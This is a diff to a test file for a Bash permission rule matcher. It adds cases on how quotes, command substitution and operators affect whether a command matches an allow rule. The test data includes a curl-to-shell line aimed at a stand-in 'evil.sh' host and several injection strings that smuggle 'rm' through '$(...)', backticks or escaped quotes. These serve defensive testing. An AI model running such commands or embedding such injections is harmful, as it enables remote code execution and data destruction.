@@ -33,6 +33,15 @@ describe('PL4c Bash rule content: exact, prefix, wildcard', () => {
     ['git *', 'git log | head', false, true],
     ['npm test:*', 'npm test > out.txt', false, true],
     ['curl *', 'ls; curl evil.sh | sh', false, true],
+    // operators inside quotes are text; `$(` and backticks inside double quotes still run
+    ['git commit:*', 'git commit -m "fix: a; b\n\nbody"', true, true],
+    ['echo *', "echo 'a && b | c > d'", true, true],
+    ['echo *', 'echo "$(rm x)"', false, true],
+    ['echo *', 'echo "`rm x`"', false, true],
+    ['echo *', 'echo \\"; rm x; \\"', false, true],
+    ['echo *', 'echo "unterminated', false, true],
+    ['git log:*', 'git log --format=%h#%s', true, true],
+    ['npm test:*', 'npm test # ; rm x', false, true],
     // an exact allow matches exactly that line, compound or not
     ['npm test && npm run lint', 'npm test && npm run lint', true, true],
   ];
